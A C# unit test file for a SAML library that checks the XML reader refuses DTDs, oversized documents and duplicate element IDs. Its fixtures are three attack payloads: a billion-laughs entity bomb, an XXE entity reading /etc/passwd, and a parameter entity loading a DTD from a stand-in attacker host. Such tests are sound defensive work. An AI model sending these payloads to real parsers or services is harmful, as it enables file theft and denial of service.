using System.Text;
using System.Xml;
using IdentityHub.Saml.Bindings;
using IdentityHub.Saml.Tests.Inbound;
using IdentityHub.Saml.Validation;

namespace IdentityHub.Saml.Tests.Validation;

/// <summary>Rules 1 and 5: no DTD of any kind, and no two elements sharing an ID.</summary>
public sealed class SafeXmlTests
{
    private const string BillionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
          <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
        ]>
        <samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&lol4;</saml:Issuer></samlp:AuthnRequest>
        """;

    private const string ExternalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE r [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&xxe;</saml:Issuer></samlp:AuthnRequest>
        """;

    private const string ParameterEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE r [ <!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote; ]>
        <samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0"/>
        """;

    [Theory]
    [InlineData(BillionLaughs)]
    [InlineData(ExternalEntity)]
    [InlineData(ParameterEntity)]
    public void A_document_type_declaration_is_refused_by_HTTP_POST(string xml)
    {
        SamlReadResult read = MessageEncoder.ReadPost(xml);

        Assert.Null(read.Message);
        Assert.Equal(SamlProblemCodes.Dtd, read.Problem?.Code);
    }

    [Theory]
    [InlineData(BillionLaughs)]
    [InlineData(ExternalEntity)]
    [InlineData(ParameterEntity)]
    public void A_document_type_declaration_is_refused_by_HTTP_Redirect(string xml)
    {
        SamlReadResult read = SamlMessageReader.ReadRedirect(MessageEncoder.ForRedirect(xml), "SAMLRequest", MessageEncoder.MaxBytes);

        Assert.Equal(SamlProblemCodes.Dtd, read.Problem?.Code);
    }

    [Fact]
    public void A_UTF16_document_type_declaration_without_a_byte_order_mark_is_still_refused_by_the_parser()
    {
        // The textual check reads UTF-8; the parser's own prohibition is what refuses this one.
        byte[] utf16 = Encoding.Unicode.GetBytes(ExternalEntity.Replace("<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>", StringComparison.Ordinal));

        (XmlDocument? document, SamlProblem? problem) = SafeXml.Read(utf16, MessageEncoder.MaxBytes);

        Assert.Null(document);
        Assert.NotNull(problem);
        Assert.Throws<XmlException>(() => SafeXml.Load(utf16, MessageEncoder.MaxBytes));
    }

    [Fact]
    public void A_document_larger_than_the_cap_is_refused()
    {
        byte[] xml = Encoding.UTF8.GetBytes(SampleMessages.AuthnRequest());

        Assert.Equal(SamlProblemCodes.TooLarge, SafeXml.Read(xml, xml.Length - 1).Problem?.Code);
        Assert.NotNull(SafeXml.Load(xml, xml.Length));
    }

    [Fact]
    public void Whitespace_is_preserved_for_canonicalization()
    {
        XmlDocument document = SafeXml.Load(Encoding.UTF8.GetBytes(SampleMessages.AuthnRequest()), MessageEncoder.MaxBytes);

        Assert.True(document.PreserveWhitespace);
        Assert.Equal(XmlNodeType.Whitespace, document.DocumentElement!.FirstChild!.NodeType);
    }

    [Theory]
    [InlineData("ID")]
    [InlineData("Id")]
    [InlineData("xml:id")]
    public void Two_elements_with_the_same_ID_are_refused(string attribute)
    {
        XmlDocument document = SampleMessages.Parse(SampleMessages.AuthnRequest());
        var note = (XmlElement)document.SelectSingleNode("//samlp:Extensions/*", SampleMessages.Namespaces(document))!;
        if (attribute == "xml:id")
        {
            foreach (XmlElement element in new[] { document.DocumentElement!, note })
            {
                XmlAttribute xmlId = document.CreateAttribute("xml", "id", "http://www.w3.org/XML/1998/namespace");
                xmlId.Value = "_dup";
                element.Attributes.Append(xmlId);
            }
        }
        else
        {
            note.SetAttribute(attribute, "_req1");
        }

        SamlReadResult read = MessageEncoder.ReadPost(document);

        Assert.Equal(SamlProblemCodes.DuplicateId, read.Problem?.Code);
    }

    [Fact]
    public void Distinct_IDs_are_accepted()
    {
        XmlDocument document = SampleMessages.Parse(SampleMessages.AuthnRequest());
        ((XmlElement)document.SelectSingleNode("//samlp:Extensions/*", SampleMessages.Namespaces(document))!).SetAttribute("ID", "_other");

        Assert.True(MessageEncoder.ReadPost(document).Succeeded);
    }
}
